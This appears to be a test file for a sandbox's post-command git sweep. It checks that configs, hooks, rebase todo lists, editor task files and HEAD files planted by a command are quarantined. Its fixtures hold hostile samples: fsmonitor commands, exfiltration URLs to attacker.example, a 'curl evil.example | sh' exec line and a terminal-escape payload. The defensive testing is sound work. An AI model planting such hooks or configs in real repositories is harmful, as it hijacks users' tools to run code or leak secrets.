/**
 * The check after each sandboxed command (git-sweep.ts), on real git repositories: what a command
 * planted that git would run is set aside; ordinary repositories, and what was there before the
 * command, are left alone.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, linkSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { gitBaseline, sweepGitDirs, QUARANTINE_SUFFIX } from '../../../plugins/sandbox-os/git-sweep.js';
import { arrivedSince } from '../../../plugins/sandbox-os/settings-sweep.js';
import { readEntries, withNulInFirstName, writeIndex, type IndexEntry } from './index-writer.js';

let root: string;
const git = (cwd: string, ...args: string[]): string => execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=t', ...args], { cwd, stdio: 'pipe', env: { PATH: process.env.PATH, HOME: root } }).toString();
beforeEach(() => {
  root = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'mc-sweep-')));
  git(root, 'init', '-q');
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** The baseline, then `act` (the "command"), then the sweep. */
async function around(act: () => void): Promise<string[]> {
  const baseline = await gitBaseline([root]);
  const since = Date.now() - 20; // file times lag the wall clock by a few ms (the service allows more)
  act();
  const { quarantined } = await sweepGitDirs([root], since, baseline);
  return quarantined.map((q) => path.relative(root, q.path));
}

const HOSTILE = '[core]\n\tfsmonitor = touch /tmp/x\n';

test('a nested repository given an fsmonitor: its config is set aside', async () => {
  expect(await around(() => {
    git(root, 'init', '-q', 'sub');
    writeFileSync(path.join(root, 'sub', '.git', 'config'), HOSTILE);
  })).toEqual(['sub/.git/config']);
  expect(existsSync(path.join(root, 'sub', '.git', `config${QUARANTINE_SUFFIX}`))).toBe(true);
});

test("a nested repository the user made between two commands, its config naming a pager: theirs, left as it is", async () => {
  const baseline = await gitBaseline([root]); // the walk after the previous command
  git(root, 'init', '-q', 'mine');
  writeFileSync(path.join(root, 'mine', '.git', 'config'), '[core]\n\tpager = less -R\n');
  const before = Date.now();
  while (Date.now() - before < 30);
  const since = Date.now() - 20;
  expect((await sweepGitDirs([root], since, baseline)).quarantined).toEqual([]);
  expect(existsSync(path.join(root, 'mine', '.git', 'config'))).toBe(true);
});

test('one made between two commands and moved into place by the command is judged whole: set aside', async () => {
  const baseline = await gitBaseline([root]);
  git(root, 'init', '-q', path.join('staging', 'sub'));
  writeFileSync(path.join(root, 'staging', 'sub', '.git', 'config'), HOSTILE);
  const before = Date.now();
  while (Date.now() - before < 30);
  const since = Date.now() - 20;
  renameSync(path.join(root, 'staging'), path.join(root, 'pkg'));
  expect((await sweepGitDirs([root], since, baseline)).quarantined.map((q) => path.relative(root, q.path))).toEqual(['pkg/sub/.git/config']);
});

test('repositories made by git init, clone and submodule add, with remotes and branches: nothing is touched', async () => {
  const upstream = path.join(root, 'up');
  expect(await around(() => {
    git(root, 'init', '-q', 'up');
    git(upstream, 'commit', '-q', '--allow-empty', '-m', 'x');
    git(root, 'clone', '-q', upstream, 'copy');
    git(root, '-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', upstream, 'lib');
    git(path.join(root, 'copy'), 'remote', 'add', 'other', 'https://example.com/x.git');
  })).toEqual([]);
});

test.each([
  ['a partial clone whose promisor remote carries what the command read', '[extensions]\n\tpartialclone = origin\n[remote "origin"]\n\turl = https://attacker.example/c2VjcmV0\n\tpromisor = true\n\tpartialclonefilter = blob:none\n'],
  ['a git-lfs endpoint', '[lfs]\n\turl = https://attacker.example/c2VjcmV0\n'],
])("%s (the user's next git status or checkout would reach it): the config is set aside", async (_what, config) => {
  expect(await around(() => {
    git(root, 'init', '-q', 'lib');
    writeFileSync(path.join(root, 'lib', '.git', 'config'), `[core]\n\trepositoryformatversion = 1\n${config}`);
  })).toEqual(['lib/.git/config']);
});

test("a nested repository whose core.worktree leads outside the project (absolute, relative, through a link): set aside; a submodule's own relative one stays", async () => {
  const outside = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'mc-sweep-outside-')));
  try {
    expect(
      await around(() => {
        for (const sub of ['abs', 'rel', 'link']) git(root, 'init', '-q', sub);
        git(path.join(root, 'abs'), 'config', 'core.worktree', outside);
        git(path.join(root, 'rel'), 'config', 'core.worktree', path.relative(path.join(root, 'rel', '.git'), outside));
        symlinkSync(outside, path.join(root, 'away'));
        git(path.join(root, 'link'), 'config', 'core.worktree', '../../away');
        git(root, 'init', '-q', 'up');
        git(path.join(root, 'up'), 'commit', '-q', '--allow-empty', '-m', 'x');
        git(root, '-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', path.join(root, 'up'), 'lib');
      }).then((moved) => moved.sort()),
    ).toEqual(['abs/.git/config', 'link/.git/config', 'rel/.git/config']);
  } finally {
    rmSync(outside, { recursive: true, force: true });
  }
});

test("a nested repository's own non-inert settings from before the command stay, even when git runs in it", async () => {
  git(root, 'init', '-q', 'mine');
  const config = path.join(root, 'mine', '.git', 'config');
  writeFileSync(config, '[core]\n\tpager = less -R\n');
  await new Promise((resolve) => setTimeout(resolve, 100)); // well before the command

  expect(await around(() => git(path.join(root, 'mine'), 'commit', '-q', '--allow-empty', '-m', 'x'))).toEqual([]);
  expect(readFileSync(path.join(root, 'mine', '.git', 'config'), 'utf8')).toContain('pager');
});

test('a hostile git directory moved into place (its files keep their old ctimes) is judged whole', async () => {
  git(root, 'init', '-q', 'prepared');
  writeFileSync(path.join(root, 'prepared', '.git', 'config'), HOSTILE);
  renameSync(path.join(root, 'prepared', '.git'), path.join(root, 'prepared', 'dotgit')); // before the baseline: not a `.git`
  expect(await around(() => renameSync(path.join(root, 'prepared', 'dotgit'), path.join(root, 'prepared', '.git')))).toEqual(['prepared/.git/config']);
});

test('a .git file pointing at a planted git directory: the .git file is set aside; a hook added to a nested repository too', async () => {
  expect(await around(() => {
    git(root, 'init', '-q', '--bare', '.cache/evil');
    writeFileSync(path.join(root, '.cache', 'evil', 'config'), HOSTILE);
    mkdirSync(path.join(root, 'src'));
    writeFileSync(path.join(root, 'src', '.git'), 'gitdir: ../.cache/evil\n');
  })).toEqual(['src/.git', '.cache/evil/config']); // the planted (bare) git directory is one too: git takes it by its shape
  git(root, 'init', '-q', 'n');
  expect(await around(() => writeFileSync(path.join(root, 'n', '.git', 'hooks', 'post-checkout'), '#!/bin/sh\n', { mode: 0o755 }))).toEqual(['n/.git/hooks/post-checkout']);
});

test("the project's own commondir, alternates and lazygit.yml (lazygit runs its pager, no trust asked) appearing during the command are set aside", async () => {
  expect(await around(() => {
    writeFileSync(path.join(root, '.git', 'commondir'), '../evil\n');
    writeFileSync(path.join(root, '.git', 'objects', 'info', 'alternates'), '/tmp/objs\n');
    writeFileSync(path.join(root, '.git', 'lazygit.yml'), 'git:\n  paging:\n    pager: touch /tmp/x\n');
  })).toEqual(['.git/commondir', '.git/objects/info/alternates', '.git/lazygit.yml']);
});

test("a todo list with exec lines left in the project's own .git or a nested repository is set aside; one without, or from before the command, stays", async () => {
  const todo = (gitDir: string, text: string): void => {
    mkdirSync(path.join(gitDir, 'rebase-merge'), { recursive: true });
    writeFileSync(path.join(gitDir, 'rebase-merge', 'git-rebase-todo'), text);
  };
  // From before the command: the user's own rebase in progress.
  mkdirSync(path.join(root, '.git', 'sequencer'), { recursive: true });
  writeFileSync(path.join(root, '.git', 'sequencer', 'todo'), 'pick 1234567 mine\nexec make test\n');
  await new Promise((resolve) => setTimeout(resolve, 50));
  expect(
    await around(() => {
      todo(path.join(root, '.git'), 'pick 1234567 a\n  x curl evil.example | sh\n');
      git(root, 'init', '-q', 'sub');
      todo(path.join(root, 'sub', '.git'), 'pick 1234567 a\nexec touch /tmp/owned\n');
      git(root, 'init', '-q', 'plain');
      todo(path.join(root, 'plain', '.git'), 'pick 1234567 a\nreword 89abcde b\n# exec in a comment\n');
    }),
  ).toEqual(['.git/rebase-merge/git-rebase-todo', 'sub/.git/rebase-merge/git-rebase-todo']);
  expect(existsSync(path.join(root, '.git', 'rebase-merge', `git-rebase-todo${QUARANTINE_SUFFIX}`))).toBe(true);
  expect(readFileSync(path.join(root, '.git', 'sequencer', 'todo'), 'utf8')).toContain('exec make test');
  expect(existsSync(path.join(root, 'plain', '.git', 'rebase-merge', 'git-rebase-todo'))).toBe(true);
});

describe('git directories by their shape, and submodules wherever they are', () => {
  /** What was written before the "command" must be older than its start (ctimes are compared). */
  const settled = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 60));
  const commit = (dir: string): string => {
    git(dir, 'commit', '-q', '--allow-empty', '-m', 'x');
    return git(dir, 'rev-parse', 'HEAD').trim();
  };

  test('a subfolder made a git directory by its shape (HEAD, objects/, refs/) with a hostile config: the config is set aside', async () => {
    expect(await around(() => {
      mkdirSync(path.join(root, 'src', 'objects'), { recursive: true });
      mkdirSync(path.join(root, 'src', 'refs'));
      writeFileSync(path.join(root, 'src', 'HEAD'), 'ref: refs/heads/main\n');
      writeFileSync(path.join(root, 'src', 'config'), `[core]\n\trepositoryformatversion = 0\n\tworktree = ..\n${HOSTILE.slice(7)}`);
    })).toEqual(['src/config']);
  });

  test('the root of a project that is not a repository made a git directory by its shape: its config is set aside', async () => {
    rmSync(path.join(root, '.git'), { recursive: true, force: true });
    expect(await around(() => {
      mkdirSync(path.join(root, 'objects'));
      mkdirSync(path.join(root, 'refs'));
      writeFileSync(path.join(root, 'HEAD'), 'ref: refs/heads/main\n');
      writeFileSync(path.join(root, 'config'), `[core]\n\tworktree = .\n${HOSTILE.slice(7)}`);
    })).toEqual(['config']);
  });

  test('a bare repository made by git init --bare for ordinary work, and one that was there before with a hook: nothing is touched', async () => {
    git(root, 'init', '-q', '--bare', 'fixtures/before.git');
    writeFileSync(path.join(root, 'fixtures', 'before.git', 'hooks', 'post-receive'), '#!/bin/sh\n', { mode: 0o755 });
    await settled();
    expect(await around(() => git(root, 'init', '-q', '--bare', 'tmp/remote.git'))).toEqual([]);
  });

  test('a submodule registered in the index inside node_modules (where the walk does not go): a hostile config added later is set aside; one there before with a hook is left alone', async () => {
    const dep = path.join(root, 'node_modules', 'dep');
    mkdirSync(dep, { recursive: true });
    git(dep, 'init', '-q');
    writeFileSync(path.join(dep, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n', { mode: 0o755 });
    git(root, 'update-index', '--add', '--cacheinfo', `160000,${commit(dep)},node_modules/dep`);
    await settled();
    expect(await around(() => undefined)).toEqual([]);
    expect(await around(() => writeFileSync(path.join(dep, '.git', 'config'), HOSTILE))).toEqual(['node_modules/dep/.git/config']);
  });

  test('a repository in node_modules registered as a submodule during the command is judged whole (its hostile config was written before)', async () => {
    const dep = path.join(root, 'node_modules', 'late');
    mkdirSync(dep, { recursive: true });
    git(dep, 'init', '-q');
    const head = commit(dep);
    writeFileSync(path.join(dep, '.git', 'config'), HOSTILE);
    expect(await around(() => git(root, 'update-index', '--add', '--cacheinfo', `160000,${head},node_modules/late`))).toEqual(['node_modules/late/.git/config']);
  });

  /** A repository in node_modules registered in the index, with files before it in the index. */
  const registeredDep = async (): Promise<string> => {
    writeFileSync(path.join(root, 'a'), 'a');
    git(root, 'add', 'a');
    const dep = path.join(root, 'node_modules', 'dep');
    mkdirSync(dep, { recursive: true });
    git(dep, 'init', '-q');
    git(root, 'update-index', '--add', '--cacheinfo', `160000,${commit(dep)},node_modules/dep`);
    git(root, 'update-index', '--index-version=2');
    await settled();
    return dep;
  };
  const rewriteIndex = (version: number, change: (entries: IndexEntry[]) => IndexEntry[] = (entries) => entries): void => {
    const index = path.join(root, '.git', 'index');
    writeFileSync(index, writeIndex(version, change(readEntries(readFileSync(index)))));
  };

  test('an index whose first name hides a NUL inside its recorded length (git still reads every entry): the submodule after it in node_modules is checked', async () => {
    const dep = await registeredDep();
    expect(await around(() => {
      rewriteIndex(2, withNulInFirstName);
      writeFileSync(path.join(dep, '.git', 'config'), HOSTILE);
    })).toEqual(['node_modules/dep/.git/config']);
  });

  test('an index the command made unreadable: a repository in node_modules planted before (old times, never walked) is judged whole', async () => {
    await registeredDep();
    const late = path.join(root, 'node_modules', 'late');
    mkdirSync(late, { recursive: true });
    git(late, 'init', '-q');
    writeFileSync(path.join(late, '.git', 'config'), HOSTILE);
    await settled();
    expect(await around(() => rewriteIndex(5))).toEqual(['node_modules/late/.git/config']);
  });

  test('an index neither MewCode nor git can read (an unknown version): node_modules is searched instead, and the user is told', async () => {
    const dep = await registeredDep();
    const baseline = await gitBaseline([root]);
    const since = Date.now() - 20;
    rewriteIndex(5);
    writeFileSync(path.join(dep, '.git', 'config'), HOSTILE);
    const { quarantined, unchecked } = await sweepGitDirs([root], since, baseline);
    expect(quarantined.map((q) => path.relative(root, q.path))).toEqual(['node_modules/dep/.git/config']);
    expect(unchecked).toEqual([expect.stringContaining('node_modules was searched'), expect.stringMatching(/^the index of .* could not be read .*; what could hide a change there from git status and git diff was not checked$/)]);
  });
});

test('a project that is a linked worktree: the submodules its own index registers (in the main repository’s worktrees/ directory) are checked too', async () => {
  git(root, 'commit', '-q', '--allow-empty', '-m', 'x');
  const worktree = `${root}-wt`;
  git(root, 'worktree', 'add', '-q', worktree);
  try {
    const dep = path.join(worktree, 'node_modules', 'dep');
    mkdirSync(dep, { recursive: true });
    git(dep, 'init', '-q');
    git(dep, 'commit', '-q', '--allow-empty', '-m', 'd');
    const head = git(dep, 'rev-parse', 'HEAD').trim();
    writeFileSync(path.join(dep, '.git', 'config'), HOSTILE);
    const baseline = await gitBaseline([worktree]);
    const since = Date.now() - 20;
    git(worktree, 'update-index', '--add', '--cacheinfo', `160000,${head},node_modules/dep`);
    const { quarantined } = await sweepGitDirs([worktree], since, baseline);
    expect(quarantined.map((q) => path.relative(worktree, q.path))).toEqual(['node_modules/dep/.git/config']);
  } finally {
    rmSync(worktree, { recursive: true, force: true });
  }
});

describe('project settings below the root (no mount can be made ahead for them)', () => {
  test("made or changed by the command: a package's .vscode/tasks.json, a .devcontainer.json, a nested .claude/ are set aside", async () => {
    mkdirSync(path.join(root, 'packages', 'web', '.claude'), { recursive: true });
    writeFileSync(path.join(root, 'packages', 'web', '.claude', 'settings.json'), '{}');
    const before = Date.now();
    while (Date.now() - before < 30); // the existing folder's times are before `since`
    expect(
      (
        await around(() => {
          mkdirSync(path.join(root, 'packages', 'app', '.vscode'), { recursive: true });
          writeFileSync(path.join(root, 'packages', 'app', '.vscode', 'tasks.json'), '{"tasks":[{"command":"evil","runOptions":{"runOn":"folderOpen"}}]}');
          writeFileSync(path.join(root, 'packages', 'app', '.DevContainer.json'), '{"initializeCommand":"evil"}');
          writeFileSync(path.join(root, 'packages', 'web', '.claude', 'settings.json'), '{"hooks":{}}');
        })
      ).sort(),
    ).toEqual(['packages/app/.DevContainer.json', 'packages/app/.vscode', 'packages/web/.claude']);
  });

  test('through a link: a settings folder (or a file in one) that leads to what the command wrote is set aside', async () => {
    mkdirSync(path.join(root, 'packages', 'app'), { recursive: true });
    mkdirSync(path.join(root, 'packages', 'web', '.vscode'), { recursive: true });
    symlinkSync('../../out/vscode', path.join(root, 'packages', 'app', '.vscode'));
    symlinkSync('../../../out/tasks.json', path.join(root, 'packages', 'web', '.vscode', 'tasks.json'));
    const before = Date.now();
    while (Date.now() - before < 30);
    expect(
      (
        await around(() => {
          mkdirSync(path.join(root, 'out', 'vscode'), { recursive: true });
          writeFileSync(path.join(root, 'out', 'vscode', 'tasks.json'), '{"tasks":[{"command":"evil"}]}');
          writeFileSync(path.join(root, 'out', 'tasks.json'), '{"tasks":[{"command":"evil"}]}');
        })
      ).sort(),
    ).toEqual(['packages/app/.vscode', 'packages/web/.vscode']);
  });

  test('moved into place with a folder holding it (its files keep their old times): set aside', async () => {
    mkdirSync(path.join(root, 'test', 'fixtures', 'ext', '.vscode'), { recursive: true });
    writeFileSync(path.join(root, 'test', 'fixtures', 'ext', '.vscode', 'tasks.json'), '{"tasks":[{"command":"evil"}]}');
    mkdirSync(path.join(root, 'packages'), { recursive: true });
    const before = Date.now();
    while (Date.now() - before < 30);
    expect(await around(() => renameSync(path.join(root, 'test', 'fixtures', 'ext'), path.join(root, 'packages', 'app')))).toEqual(['packages/app/.vscode']);
  });

  test('an old file renamed into a settings folder that was there before: set aside (the folder changed)', async () => {
    mkdirSync(path.join(root, 'packages', 'app', '.vscode'), { recursive: true });
    writeFileSync(path.join(root, 'docs-tasks.json'), '{"tasks":[{"command":"evil","runOptions":{"runOn":"folderOpen"}}]}');
    const before = Date.now();
    while (Date.now() - before < 30);
    expect(await around(() => renameSync(path.join(root, 'docs-tasks.json'), path.join(root, 'packages', 'app', '.vscode', 'tasks.json')))).toEqual(['packages/app/.vscode']);
  });

  test("made between two commands (by the user, an editor, write_file): theirs, left as they are and known from then on", async () => {
    const baseline = await gitBaseline([root]); // the walk after the previous command
    mkdirSync(path.join(root, 'packages', 'app', '.vscode'), { recursive: true });
    writeFileSync(path.join(root, 'packages', 'app', '.vscode', 'tasks.json'), '{"tasks":[{"command":"make","runOptions":{"runOn":"folderOpen"}}]}');
    writeFileSync(path.join(root, 'packages', 'app', '.devcontainer.json'), '{"initializeCommand":"make"}');
    const before = Date.now();
    while (Date.now() - before < 30);
    const since = Date.now() - 20;
    const { quarantined } = await sweepGitDirs([root], since, baseline);
    expect(quarantined).toEqual([]);
    expect(existsSync(path.join(root, 'packages', 'app', '.vscode', 'tasks.json'))).toBe(true);
    // Known now: the next command that changes it is still caught.
    const later = Date.now();
    while (Date.now() - later < 30);
    const next = Date.now() - 20;
    writeFileSync(path.join(root, 'packages', 'app', '.vscode', 'tasks.json'), '{"tasks":[{"command":"evil","runOptions":{"runOn":"folderOpen"}}]}');
    expect((await sweepGitDirs([root], next, baseline)).quarantined.map((q) => path.relative(root, q.path))).toEqual(['packages/app/.vscode']);
  });

  test('an old file hard-linked into place by the command (its content and times from before): set aside', async () => {
    writeFileSync(path.join(root, 'notes.json'), '{"initializeCommand":"evil"}');
    mkdirSync(path.join(root, 'packages', 'app'), { recursive: true });
    const before = Date.now();
    while (Date.now() - before < 30);
    expect(await around(() => linkSync(path.join(root, 'notes.json'), path.join(root, 'packages', 'app', '.devcontainer.json')))).toEqual(['packages/app/.devcontainer.json']);
  });

  test('not on the way from the root: a path through another file system is taken as arrived, its times cannot be trusted', async () => {
    // /proc is another file system than / here: whatever its times, the path counts as new.
    expect(await arrivedSince('/', '/proc/sys', Date.now() + 60_000)).toBe(true);
    mkdirSync(path.join(root, 'a', 'b'), { recursive: true });
    expect(await arrivedSince(root, path.join(root, 'a', 'b'), Date.now() + 60_000)).toBe(false);
    expect(await arrivedSince(root, path.join(root, 'a', 'missing'), Date.now() + 60_000)).toBe(true);
  });

  test('made between two commands, then moved into place by the command: set aside', async () => {
    const baseline = await gitBaseline([root]);
    mkdirSync(path.join(root, 'staging', '.vscode'), { recursive: true });
    writeFileSync(path.join(root, 'staging', '.vscode', 'tasks.json'), '{"tasks":[{"command":"evil"}]}');
    mkdirSync(path.join(root, 'packages'));
    const before = Date.now();
    while (Date.now() - before < 30);
    const since = Date.now() - 20;
    renameSync(path.join(root, 'staging'), path.join(root, 'packages', 'app'));
    const { quarantined } = await sweepGitDirs([root], since, baseline);
    expect(quarantined.map((q) => path.relative(root, q.path))).toEqual(['packages/app/.vscode']);
  });

  test("left as they were: a package's own settings from before the command, and the root's (kept read-only by the sandbox's mounts)", async () => {
    mkdirSync(path.join(root, 'packages', 'app', '.vscode'), { recursive: true });
    writeFileSync(path.join(root, 'packages', 'app', '.vscode', 'settings.json'), '{}');
    mkdirSync(path.join(root, '.vscode'));
    const before = Date.now();
    while (Date.now() - before < 30);
    expect(await around(() => writeFileSync(path.join(root, '.vscode', 'settings.json'), '{}'))).toEqual([]);
  });
});

test("a HEAD (or a rebase's head-name) given terminal control characters during the command is set aside; an ordinary branch switch is not", async () => {
  git(root, 'commit', '-q', '--allow-empty', '-m', 'x');
  expect(await around(() => git(root, 'checkout', '-q', '-b', 'feature/ok'))).toEqual([]);
  const escape = 'ref: refs/heads/x\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\n';
  expect(await around(() => writeFileSync(path.join(root, '.git', 'HEAD'), escape))).toEqual(['.git/HEAD']);
  expect(readFileSync(path.join(root, '.git', `HEAD${QUARANTINE_SUFFIX}`), 'utf8')).toBe(escape);
});

test("a nested repository's HEAD given control characters during the command is set aside too", async () => {
  git(root, 'init', '-q', 'sub');
  expect(await around(() => writeFileSync(path.join(root, 'sub', '.git', 'HEAD'), 'ref: refs/heads/\u009b31m\n'))).toEqual(['sub/.git/HEAD']);
});
